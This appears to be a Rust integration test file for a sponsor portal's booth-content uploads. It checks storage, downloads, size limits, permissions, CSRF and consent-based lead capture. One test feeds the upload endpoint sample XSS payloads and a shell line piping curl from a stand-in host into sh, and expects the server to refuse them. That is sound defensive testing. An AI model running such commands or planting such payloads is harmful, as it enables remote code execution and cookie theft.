//! Downloadable content items of a booth page over HTTP, on SQLite and
//! PostgreSQL, with the object store in the data dir: upload, list, rename,
//! download byte for byte, remove (the object goes too), the size limit, the
//! types told from the content, and who may do what.

mod common;

use common::{another_sponsor, join_staff, world};
use reqwest::StatusCode;
use reqwest::header::{CONTENT_DISPOSITION, CONTENT_TYPE, COOKIE, LOCATION};
use serde_json::{Value, json};
use sponsorhub_testkit::{TestApp, assert_problem, dual_backend};

dual_backend!(
    the_document_names_every_type_a_file_is_served_as,
    content_is_uploaded_listed_downloaded_renamed_and_removed,
    too_big_and_active_content_are_refused,
    only_those_who_manage_the_booth_change_its_content,
    the_portal_editor_adds_renames_and_removes_files,
    downloads_make_leads_only_with_consent,
);

const PDF: &[u8] = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";

fn content_path(sponsor: &str) -> String {
    format!("/api/v1/sponsors/sponsors/{sponsor}/booth/content")
}

/// POSTs `bytes` as a content file named `file_name`, with an optional title.
async fn upload(
    app: &TestApp,
    token: &str,
    sponsor: &str,
    file_name: &str,
    title: Option<&str>,
    bytes: Vec<u8>,
) -> (StatusCode, Value) {
    let mut query = vec![("file_name", file_name)];
    if let Some(t) = title {
        query.push(("title", t));
    }
    let res = app
        .client
        .post(app.url(&content_path(sponsor)))
        .query(&query)
        .bearer_auth(token)
        .header(CONTENT_TYPE, "application/octet-stream")
        .body(bytes)
        .send()
        .await
        .unwrap();
    let status = res.status();
    (status, res.json().await.unwrap_or(Value::Null))
}

async fn the_document_names_every_type_a_file_is_served_as(app: TestApp) {
    let (_, doc) = app.get("/api/openapi.json", None).await;
    let content = &doc["paths"]["/api/v1/sponsors/sponsors/{sponsor_id}/booth/content/{item_id}/file"]["get"]["responses"]
        ["200"]["content"];
    let documented: Vec<&String> = content.as_object().expect("the file's types").keys().collect();
    let served: Vec<&str> = sponsorhub_services::content::content_types().collect();
    assert_eq!(documented.len(), served.len(), "{documented:?}");
    for t in served {
        assert!(content.get(t).is_some(), "{t} is not documented");
    }
    app.stop().await;
}

/// Every file under the app's object store directory.
fn stored_objects(app: &TestApp) -> Vec<std::path::PathBuf> {
    fn walk(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() { walk(&p, out) } else { out.push(p) }
        }
    }
    let mut out = Vec::new();
    walk(&app.data_dir.path().join("objects"), &mut out);
    out
}

async fn content_is_uploaded_listed_downloaded_renamed_and_removed(app: TestApp) {
    let w = world(&app).await;
    let (admin, _) = join_staff(&app, &w, &w.sponsor_id, "admin@ferris.io", "admin").await;
    let (status, item) =
        upload(&app, &admin.token, &w.sponsor_id, "Ferris brochure.pdf", Some("Our brochure"), PDF.to_vec()).await;
    assert_eq!(status, StatusCode::CREATED, "{item}");
    assert_eq!(item["title"], "Our brochure");
    assert_eq!(item["file_name"], "Ferris brochure.pdf");
    assert_eq!(item["content_type"], "application/pdf");
    assert_eq!(item["byte_size"], PDF.len());
    let id = item["id"].as_str().unwrap().to_string();
    let download = item["download_url"].as_str().unwrap();
    assert!(
        download.ends_with(&format!("/directory/{}/sponsors/{}/content/{id}", w.event_id, w.sponsor_id)),
        "{download}"
    );
    // The object is in the data dir, under a key that names neither the item
    // nor anything the caller sent.
    let objects = stored_objects(&app);
    assert_eq!(objects.len(), 1, "{objects:?}");
    let key = objects[0].to_string_lossy().to_string();
    assert!(!key.contains(&id) && !key.contains("brochure"), "{key}");
    assert!(!item.to_string().contains(objects[0].file_name().unwrap().to_str().unwrap()), "the key is never shown");

    // Without a title, the file's name is the title; a name whose extension
    // does not fit the content gets one that does.
    let (status, second) = upload(&app, &w.organizer.token, &w.sponsor_id, "price list.html", None, PDF.to_vec()).await;
    assert_eq!(status, StatusCode::CREATED, "{second}");
    assert_eq!(second["title"], "price list");
    assert_eq!(second["file_name"], "price list.html.pdf");

    // Listed in the order added, for every member of the staff.
    let (rep, _) = join_staff(&app, &w, &w.sponsor_id, "rep@ferris.io", "representative").await;
    let (status, list) = app.get(&content_path(&w.sponsor_id), Some(&rep.token)).await;
    assert_eq!(status, StatusCode::OK, "{list}");
    let titles: Vec<&str> = list["items"].as_array().unwrap().iter().map(|i| i["title"].as_str().unwrap()).collect();
    assert_eq!(titles, ["Our brochure", "price list"]);

    // Back byte for byte, as an attachment the browser must not sniff.
    let res = app
        .client
        .get(app.url(&format!("{}/{id}/file", content_path(&w.sponsor_id))))
        .bearer_auth(&rep.token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()[CONTENT_TYPE], "application/pdf");
    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
    let disposition = res.headers()[CONTENT_DISPOSITION].to_str().unwrap().to_string();
    assert!(disposition.starts_with("attachment;") && disposition.contains("Ferris%20brochure.pdf"), "{disposition}");
    assert_eq!(res.bytes().await.unwrap().as_ref(), PDF);

    // Renamed.
    let one = format!("{}/{id}", content_path(&w.sponsor_id));
    let (status, renamed) = app.patch(&one, Some(&admin.token), json!({"title": "Brochure 2026"})).await;
    assert_eq!(status, StatusCode::OK, "{renamed}");
    assert_eq!(renamed["title"], "Brochure 2026");
    assert_eq!(renamed["file_name"], "Ferris brochure.pdf");
    let (status, body) = app.patch(&one, Some(&admin.token), json!({"title": "  "})).await;
    assert_problem(status, &body, 422);
    assert_eq!(body["errors"][0]["field"], "title", "{body}");

    // Removed: the row and the object.
    let (status, _) = app.delete(&one, Some(&admin.token)).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    assert!(!objects[0].exists(), "the object is deleted with the item");
    assert_eq!(stored_objects(&app).len(), 1, "the other item's object stays");
    let (_, list) = app.get(&content_path(&w.sponsor_id), Some(&rep.token)).await;
    assert_eq!(list["items"].as_array().unwrap().len(), 1);
    let (status, body) = app.get(&format!("{one}/file"), Some(&rep.token)).await;
    assert_problem(status, &body, 404);
    let (status, body) = app.delete(&one, Some(&admin.token)).await;
    assert_problem(status, &body, 404);
    app.stop().await;
}

async fn too_big_and_active_content_are_refused(app: TestApp) {
    let w = world(&app).await;
    let token = w.organizer.token.clone();
    // Past the body limit: 413 before anything reads it (or the connection
    // closed under the client's write: either is the refusal).
    let sent = reqwest::Client::new()
        .post(app.url(&content_path(&w.sponsor_id)))
        .query(&[("file_name", "big.pdf")])
        .bearer_auth(&token)
        .body(vec![b'%'; 21 * 1024 * 1024])
        .send()
        .await;
    match sent {
        Ok(res) => assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE),
        Err(e) => assert!(e.is_request() && !e.is_timeout(), "refused by closing the connection: {e:?}"),
    }
    // Within the body limit but a byte over 20 MiB: 422 at the file.
    let mut big = PDF.to_vec();
    big.resize(20 * 1024 * 1024 + 1, b' ');
    let (status, body) = upload(&app, &token, &w.sponsor_id, "big.pdf", None, big).await;
    assert_problem(status, &body, 422);
    assert_eq!(body["errors"][0]["field"], "file", "{body}");
    assert!(body["errors"][0]["message"].as_str().unwrap().contains("20 MB"), "{body}");
    // Exactly 20 MiB is fine.
    let mut full = PDF.to_vec();
    full.resize(20 * 1024 * 1024, b' ');
    let (status, body) = upload(&app, &token, &w.sponsor_id, "full.pdf", None, full).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");

    // Active content and programs, whatever they are called.
    for (name, bytes) in [
        ("brochure.pdf", &b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"[..]),
        ("logo.png", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"),
        ("install.txt", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("data.bin", b"\x00\x01\x02\x03\x04"),
        ("empty.pdf", b""),
    ] {
        let (status, body) = upload(&app, &token, &w.sponsor_id, name, None, bytes.to_vec()).await;
        assert_problem(status, &body, 422);
        assert_eq!(body["errors"][0]["field"], "file", "{name}: {body}");
    }
    let (status, body) = upload(&app, &token, &w.sponsor_id, "/", None, PDF.to_vec()).await;
    assert_problem(status, &body, 422);
    assert_eq!(body["errors"][0]["field"], "file_name", "{body}");
    let long = "t".repeat(201);
    let (status, body) = upload(&app, &token, &w.sponsor_id, "a.pdf", Some(&long), PDF.to_vec()).await;
    assert_problem(status, &body, 422);
    assert_eq!(body["errors"][0]["field"], "title", "{body}");

    // Only the 20 MiB file was kept.
    let (_, list) = app.get(&content_path(&w.sponsor_id), Some(&token)).await;
    assert_eq!(list["items"].as_array().unwrap().len(), 1, "{list}");
    assert_eq!(stored_objects(&app).len(), 1);
    app.stop().await;
}

async fn only_those_who_manage_the_booth_change_its_content(app: TestApp) {
    let w = world(&app).await;
    let (rep, _) = join_staff(&app, &w, &w.sponsor_id, "rep@ferris.io", "representative").await;
    let other = another_sponsor(&app, &w, "Crab Co").await;
    let (crab, _) = join_staff(&app, &w, &other, "admin@crab.io", "admin").await;
    let (status, item) = upload(&app, &w.organizer.token, &w.sponsor_id, "a.pdf", None, PDF.to_vec()).await;
    assert_eq!(status, StatusCode::CREATED, "{item}");
    let one = format!("{}/{}", content_path(&w.sponsor_id), item["id"].as_str().unwrap());

    // Staff without can_manage_booth read, and change nothing: 403.
    let (status, _) = app.get(&content_path(&w.sponsor_id), Some(&rep.token)).await;
    assert_eq!(status, StatusCode::OK);
    let (status, body) = upload(&app, &rep.token, &w.sponsor_id, "b.pdf", None, PDF.to_vec()).await;
    assert_problem(status, &body, 403);
    let (status, body) = app.patch(&one, Some(&rep.token), json!({"title": "Mine"})).await;
    assert_problem(status, &body, 403);
    let (status, body) = app.delete(&one, Some(&rep.token)).await;
    assert_problem(status, &body, 403);

    // Another sponsor's staff see nothing of it: 404, as for a missing sponsor.
    let (status, body) = app.get(&content_path(&w.sponsor_id), Some(&crab.token)).await;
    assert_problem(status, &body, 404);
    let (status, body) = upload(&app, &crab.token, &w.sponsor_id, "b.pdf", None, PDF.to_vec()).await;
    assert_problem(status, &body, 404);
    let (status, body) = app.get(&format!("{one}/file"), Some(&crab.token)).await;
    assert_problem(status, &body, 404);
    let (status, body) = app.delete(&one, Some(&crab.token)).await;
    assert_problem(status, &body, 404);
    // Nor through their own sponsor's path: the item is not theirs.
    let theirs = format!("{}/{}", content_path(&other), item["id"].as_str().unwrap());
    let (status, body) = app.get(&format!("{theirs}/file"), Some(&crab.token)).await;
    assert_problem(status, &body, 404);
    let (status, body) = app.delete(&theirs, Some(&crab.token)).await;
    assert_problem(status, &body, 404);
    // Nobody signed in: 401.
    let (status, body) = app.get(&content_path(&w.sponsor_id), None).await;
    assert_problem(status, &body, 401);

    // Nothing changed; nothing else stored.
    let (_, list) = app.get(&content_path(&w.sponsor_id), Some(&rep.token)).await;
    assert_eq!(list["items"][0]["title"], "a");
    assert_eq!(list["items"].as_array().unwrap().len(), 1);
    assert_eq!(stored_objects(&app).len(), 1);
    app.stop().await;
}

fn csrf_of(html: &str) -> String {
    let at = html.find(r#"name="_csrf" value=""#).expect("a form with a CSRF token");
    let rest = &html[at + r#"name="_csrf" value=""#.len()..];
    rest[..rest.find('"').unwrap()].to_string()
}

/// A client that shows redirects instead of following them.
fn browser() -> reqwest::Client {
    reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
}

async fn the_portal_editor_adds_renames_and_removes_files(app: TestApp) {
    let w = world(&app).await;
    let (admin, _) = join_staff(&app, &w, &w.sponsor_id, "admin@ferris.io", "admin").await;
    let web = browser();
    let cookie = format!("sponsorhub_session={}", admin.token);
    let editor = app.url(&format!("/portal/sponsors/{}/booth-page", w.sponsor_id));
    let html = web.get(&editor).header(COOKIE, &cookie).send().await.unwrap().text().await.unwrap();
    assert!(html.contains(r#"enctype="multipart/form-data""#) && html.contains(r#"name="file" type="file""#));
    assert!(html.contains("No files yet."));
    let csrf = csrf_of(&html);
    let add = app.url(&format!("/portal/sponsors/{}/booth-page/content", w.sponsor_id));
    let form = |title: &str, name: &str, bytes: &[u8]| {
        reqwest::multipart::Form::new().text("_csrf", csrf.clone()).text("title", title.to_string()).part(
            "file",
            reqwest::multipart::Part::bytes(bytes.to_vec()).file_name(name.to_string()).mime_str("text/html").unwrap(),
        )
    };

    // An HTML page: the editor again, 422, the error at the file, the title kept.
    let res = web
        .post(&add)
        .header(COOKIE, &cookie)
        .multipart(form("Our page", "page.html", b"<html><script>alert(1)</script></html>"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let html = res.text().await.unwrap();
    assert!(html.contains(r#"id="c-file-error""#) && html.contains("pages and markup are not offered"), "{html}");
    assert!(html.contains(r#"value="Our page""#));
    // No file chosen: asked for one.
    let res = web.post(&add).header(COOKIE, &cookie).multipart(form("", "", b"")).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text().await.unwrap().contains("choose a file"));

    // A PDF (declared as anything): added, listed with its size and type.
    let res =
        web.post(&add).header(COOKIE, &cookie).multipart(form("Brochure", "brochure.pdf", PDF)).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    assert_eq!(res.headers()[LOCATION], format!("/portal/sponsors/{}/booth-page", w.sponsor_id).as_str());
    let html = web.get(&editor).header(COOKIE, &cookie).send().await.unwrap().text().await.unwrap();
    assert!(html.contains(r#"value="Brochure""#) && html.contains("brochure.pdf · PDF · 1 KB"), "{html}");
    let (_, list) = app.get(&content_path(&w.sponsor_id), Some(&admin.token)).await;
    let id = list["items"][0]["id"].as_str().unwrap().to_string();
    // The editor's download link is the staff's own (with the session cookie).
    let link = format!("/api/v1/sponsors/sponsors/{}/booth/content/{id}/file", w.sponsor_id);
    assert!(html.contains(&link));
    let res = web.get(app.url(&link)).header(COOKIE, &cookie).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.bytes().await.unwrap().as_ref(), PDF);

    // Renamed; a blank title is refused with a message.
    let rename = app.url(&format!("/portal/sponsors/{}/booth-page/content/{id}/rename", w.sponsor_id));
    let res = web
        .post(&rename)
        .header(COOKIE, &cookie)
        .form(&[("_csrf", csrf.as_str()), ("title", "Brochure 2026")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let res = web
        .post(&rename)
        .header(COOKIE, &cookie)
        .form(&[("_csrf", csrf.as_str()), ("title", " ")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER, "refused with a flash message");
    let (_, list) = app.get(&content_path(&w.sponsor_id), Some(&admin.token)).await;
    assert_eq!(list["items"][0]["title"], "Brochure 2026");

    // Staff without can_manage_booth do not get the editor.
    let (rep, _) = join_staff(&app, &w, &w.sponsor_id, "rep@ferris.io", "representative").await;
    let rep_cookie = format!("sponsorhub_session={}", rep.token);
    let res = web.get(&editor).header(COOKIE, &rep_cookie).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);

    // Removed, object and all.
    let remove = app.url(&format!("/portal/sponsors/{}/booth-page/content/{id}/remove", w.sponsor_id));
    let res = web.post(&remove).header(COOKIE, &cookie).form(&[("_csrf", csrf.as_str())]).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let (_, list) = app.get(&content_path(&w.sponsor_id), Some(&admin.token)).await;
    assert_eq!(list["items"], json!([]));
    assert!(stored_objects(&app).is_empty());
    // Without the CSRF token: refused.
    let no_token = reqwest::multipart::Form::new()
        .text("title", "Sneaky")
        .part("file", reqwest::multipart::Part::bytes(PDF.to_vec()).file_name("a.pdf"));
    let res = web.post(&add).header(COOKIE, &cookie).multipart(no_token).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    app.stop().await;
}

async fn downloads_make_leads_only_with_consent(app: TestApp) {
    let w = world(&app).await;
    let (rep, _) = join_staff(&app, &w, &w.sponsor_id, "rep@ferris.io", "representative").await;
    let (status, item) =
        upload(&app, &w.organizer.token, &w.sponsor_id, "brochure.pdf", Some("Brochure"), PDF.to_vec()).await;
    assert_eq!(status, StatusCode::CREATED, "{item}");
    let page = format!("/directory/{}/sponsors/{}", w.event_id, w.sponsor_id);
    let link = format!("{page}/content/{}", item["id"].as_str().unwrap());
    let web = browser();
    let leads = || async { app.get(&w.leads_path(""), Some(&rep.token)).await.1["items"].clone() };

    // Anyone: the booth page lists the file, the link is the file, nothing recorded.
    let html = web.get(app.url(&page)).send().await.unwrap().text().await.unwrap();
    assert!(html.contains("Downloads") && html.contains(&format!(r#"href="{link}""#)), "{html}");
    let res = web.get(app.url(&link)).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()[CONTENT_TYPE], "application/pdf");
    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
    assert!(res.headers()[CONTENT_DISPOSITION].to_str().unwrap().starts_with("attachment;"));
    assert_eq!(res.bytes().await.unwrap().as_ref(), PDF);
    assert_eq!(leads().await, json!([]));

    // Signed in: the link is a form first (opening it records nothing).
    let ada = app.signup("ada@visitors.io", "Ada's own").await;
    let cookie = format!("sponsorhub_session={}", ada.token);
    let res = web.get(app.url(&link)).header(COOKIE, &cookie).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert!(res.headers()[CONTENT_TYPE].to_str().unwrap().starts_with("text/html"));
    let html = res.text().await.unwrap();
    assert!(html.contains("Share my name and e-mail address with Ferris Inc"), "{html}");
    let csrf = csrf_of(&html);
    assert_eq!(leads().await, json!([]));

    // Not ticked: the file, and nothing recorded.
    let res = web.post(app.url(&link)).header(COOKIE, &cookie).form(&[("_csrf", csrf.as_str())]).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.bytes().await.unwrap().as_ref(), PDF);
    assert_eq!(leads().await, json!([]), "no consent, no lead");

    // Ticked: the file, and a lead of Ada's own with the download.
    let res = web
        .post(app.url(&link))
        .header(COOKIE, &cookie)
        .form(&[("_csrf", csrf.as_str()), ("share", "true")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert!(res.headers()[CONTENT_DISPOSITION].to_str().unwrap().contains("brochure.pdf"));
    assert_eq!(res.bytes().await.unwrap().as_ref(), PDF);
    let list = leads().await;
    assert_eq!(list.as_array().unwrap().len(), 1, "{list}");
    assert_eq!(list[0]["user_email"], "ada@visitors.io");
    assert_eq!(list[0]["consent_basis"], "attendee");
    let id = list[0]["id"].as_str().unwrap();
    let (_, detail) = app.get(&w.leads_path(&format!("/{id}")), Some(&rep.token)).await;
    let kinds: Vec<&str> =
        detail["interactions"].as_array().unwrap().iter().map(|i| i["interaction_type"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["content_download"], "{detail}");

    // Shared once: the page offers the download as a button, not asked again,
    // and each download is recorded.
    let html = web.get(app.url(&link)).header(COOKIE, &cookie).send().await.unwrap().text().await.unwrap();
    assert!(
        html.contains("You share your name and e-mail address with Ferris Inc") && !html.contains(r#"name="share""#)
    );
    let res = web.post(app.url(&link)).header(COOKIE, &cookie).form(&[("_csrf", csrf.as_str())]).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let (_, detail) = app.get(&w.leads_path(&format!("/{id}")), Some(&rep.token)).await;
    let downloads = detail["interactions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["interaction_type"] == "content_download")
        .count();
    assert_eq!(downloads, 2, "{detail}");

    // Another sponsor's file is not found through this sponsor's page, nor a
    // removed one.
    let other = another_sponsor(&app, &w, "Crab Co").await;
    let (status, theirs) = upload(&app, &w.organizer.token, &other, "crab.pdf", None, PDF.to_vec()).await;
    assert_eq!(status, StatusCode::CREATED, "{theirs}");
    let wrong = format!("{page}/content/{}", theirs["id"].as_str().unwrap());
    assert_eq!(web.get(app.url(&wrong)).send().await.unwrap().status(), StatusCode::NOT_FOUND);
    let (status, _) = app
        .delete(&format!("{}/{}", content_path(&w.sponsor_id), item["id"].as_str().unwrap()), Some(&w.organizer.token))
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    assert_eq!(web.get(app.url(&link)).send().await.unwrap().status(), StatusCode::NOT_FOUND);
    app.stop().await;
}
